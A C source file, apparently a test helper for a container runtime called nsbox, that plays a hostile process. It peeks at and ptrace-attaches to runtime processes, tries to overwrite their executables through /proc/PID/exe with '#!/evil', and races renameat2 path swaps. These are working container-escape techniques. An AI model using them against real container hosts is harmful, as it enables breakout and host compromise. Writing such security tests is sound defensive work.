/* What a hostile process does, in a container or beside one. Bounded: each ends after SECONDS.
 *
 *   attack look SECONDS            looks into every process of the runtime that it can see
 *   attack overwrite SECONDS       opens the program of every process that it can see for writing
 *   attack exchange A B SECONDS    exchanges two names again and again
 *   attack replace NAME LINK SECONDS    the same, once, as soon as NAME is there
 *
 * The first two print a line for each thing that they got, and "done" at the end. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Gives whether it got at the descriptors of a process that still is the runtime's. */
static int look_at(int pid) {
    char path[64], program[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, program, sizeof program - 1);
    if (length < 0) return 0;
    program[length] = 0;
    if (!strstr(program, "memfd:")) return 0;
    printf("saw %s of process %d\n", program, pid);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *descriptors = opendir(path);
    for (struct dirent *entry; descriptors && (entry = readdir(descriptors));) {
        char target[256];
        length = readlinkat(dirfd(descriptors), entry->d_name, target, sizeof target - 1);
        if (length > 0) printf("saw its descriptor %s: %.*s\n", entry->d_name, (int)length, target);
    }
    if (descriptors) closedir(descriptors);
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
        printf("traces process %d\n", pid);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    fflush(stdout);
    return 1;
}

/* The next pids are known: so there is no time lost with reading /proc. */
static void look(double seconds) {
    int next = getpid() + 1;
    for (double end = now() + seconds; now() < end;)
        for (int pid = next; pid < next + 8; pid++)
            if (syscall(SYS_kill, pid, 0) == 0) {
                while (syscall(SYS_kill, pid, 0) == 0 && !look_at(pid) && now() < end) continue;
                next = pid + 1;
            }
}

static void overwrite_one(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    char reopened[64];
    snprintf(reopened, sizeof reopened, "/proc/self/fd/%d", fd);
    char program[256];
    ssize_t length = readlink(path, program, sizeof program - 1);
    program[length < 0 ? 0 : length] = 0;
    int writable = strstr(program, "nsbox") ? open(reopened, O_WRONLY) : -1;
    if (writable >= 0 && write(writable, "#!/evil\n", 8) == 8) printf("overwrote %s\n", program);
    if (writable >= 0) close(writable);
    close(fd);
}

static void overwrite(double seconds) {
    for (double end = now() + seconds; now() < end;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') overwrite_one(entry->d_name);
        if (processes) closedir(processes);
    }
}

static int exchange(const char *one, const char *other) {
    return (int)syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, EXCHANGE);
}

int main(int count, char **words) {
    if (count < 3) return 2;
    double seconds = atof(words[count - 1]);
    double end = now() + seconds;
    puts("up");
    fflush(stdout);
    if (!strcmp(words[1], "look")) look(seconds);
    else if (!strcmp(words[1], "overwrite")) overwrite(seconds);
    else if (!strcmp(words[1], "exchange"))
        while (now() < end) for (int i = 0; i < 1000; i++) exchange(words[2], words[3]);
    else if (!strcmp(words[1], "replace"))
        while (now() < end && exchange(words[2], words[3]) < 0) continue;
    else return 2;
    puts("done");
    return 0;
}
